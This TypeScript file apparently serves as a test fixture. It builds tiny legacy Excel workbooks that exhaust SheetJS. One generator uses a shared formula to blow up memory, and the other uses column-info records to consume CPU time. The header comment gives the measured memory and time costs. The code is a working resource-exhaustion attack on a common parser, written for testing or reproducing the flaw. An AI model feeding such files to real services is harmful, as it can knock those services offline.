/**
 * Workbooks of some kB in the old form that keep SheetJS busy until memory or patience is gone. Nothing here checks them:
 * only the limits of the process that reads them do (13 kB took 0.8 GB, 40 kB more than 4 GB; 10 kB took 4 s of time, and
 * time grows with the size).
 */

/** One long formula, shared by so many cells of 26 bytes: the text of it is made, and kept, for each of them. */
export function memoryBomb(cells: number): Buffer {
  // 1 + 1 + 1 …, with 255 spaces in front of each sum.
  const one = Buffer.from([0x1e, 1, 0]);
  const plus = Buffer.from([0x19, 0x40, 0, 255, 0x03]);
  const tokens = Buffer.concat([one, ...Array.from({ length: 1000 }, () => Buffer.concat([one, plus]))]);
  const shared = record(0x04bc, Buffer.concat([u16(0, 0xffff), Buffer.from([0, 0, 0, 1]), u16(tokens.length), tokens]));
  const formulas = Array.from({ length: cells }, (_, row) => {
    const refers = Buffer.concat([Buffer.from([0x01]), u16(0, 0)]);
    const formula = record(0x0006, Buffer.concat([u16(row, 0, 0), Buffer.alloc(8), u16(8), u32(0), u16(refers.length), refers]));
    return row === 0 ? Buffer.concat([formula, shared]) : formula;
  });
  return workbook(Buffer.concat(formulas));
}

/** Each COLINFO record of 12 bytes is about 65,536 columns. Nothing of it stays in memory. */
export function timeBomb(records: number): Buffer {
  const column = record(0x007d, u16(0, 0xffff, 2000, 0, 0, 0));
  return workbook(Buffer.concat(Array.from({ length: records }, () => column)));
}

function workbook(cells: Buffer): Buffer {
  const name = Buffer.from('a');
  const end = record(0x000a, Buffer.alloc(0));
  const begin = (kind: number) => record(0x0809, u16(0x0600, kind, 0x0dbb, 0x07cc, 0, 0, 0, 0));
  const head = begin(0x0005);
  const at = head.length + 4 + 8 + name.length + end.length;
  const sheet = record(0x0085, Buffer.concat([u32(at), u16(0), Buffer.from([name.length, 0]), name]));
  return compound(Buffer.concat([head, sheet, end, begin(0x0010), cells, end]));
}

function record(kind: number, body: Buffer): Buffer {
  return Buffer.concat([u16(kind, body.length), body]);
}

/** An OLE2 container of one stream, Workbook, with as many FAT sectors as it needs. */
function compound(stream: Buffer): Buffer {
  const [END, FREE, FAT] = [0xfffffffe, 0xffffffff, 0xfffffffd];
  const size = Math.max(4096, Math.ceil(stream.length / 512) * 512);
  const body = Buffer.concat([stream, Buffer.alloc(size - stream.length)]);
  const sectors = size / 512;
  let fats = 1;
  while (fats * 128 < fats + 1 + sectors) fats++;
  const first = fats + 1;
  const table = [...Array.from({ length: fats }, () => FAT), END, ...Array.from({ length: sectors }, (_, i) => (i === sectors - 1 ? END : first + i + 1))];
  while (table.length < fats * 128) table.push(FREE);
  const directory = Buffer.concat([entry('Root Entry', 5, END, 0, 1), entry('Workbook', 2, first, size, FREE), Buffer.alloc(256)]);
  const header = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(16), u16(0x3e, 3, 0xfffe, 9, 6), Buffer.alloc(6),
    u32(0, fats, fats, 0, 4096, END, 0, END, 0), u32(...Array.from({ length: 109 }, (_, i) => (i < fats ? i : FREE))),
  ]);
  return Buffer.concat([header, u32(...table), directory, body]);
}

function entry(name: string, kind: number, start: number, size: number, child: number): Buffer {
  const label = Buffer.from(`${name}\0`, 'utf16le');
  return Buffer.concat([label, Buffer.alloc(64 - label.length), u16(label.length), Buffer.from([kind, 1]), u32(0xffffffff, 0xffffffff, child), Buffer.alloc(36), u32(start, size, 0)]);
}

function u16(...values: number[]): Buffer {
  return Buffer.from(Uint16Array.from(values).buffer);
}

function u32(...values: number[]): Buffer {
  return Buffer.from(Uint32Array.from(values).buffer);
}
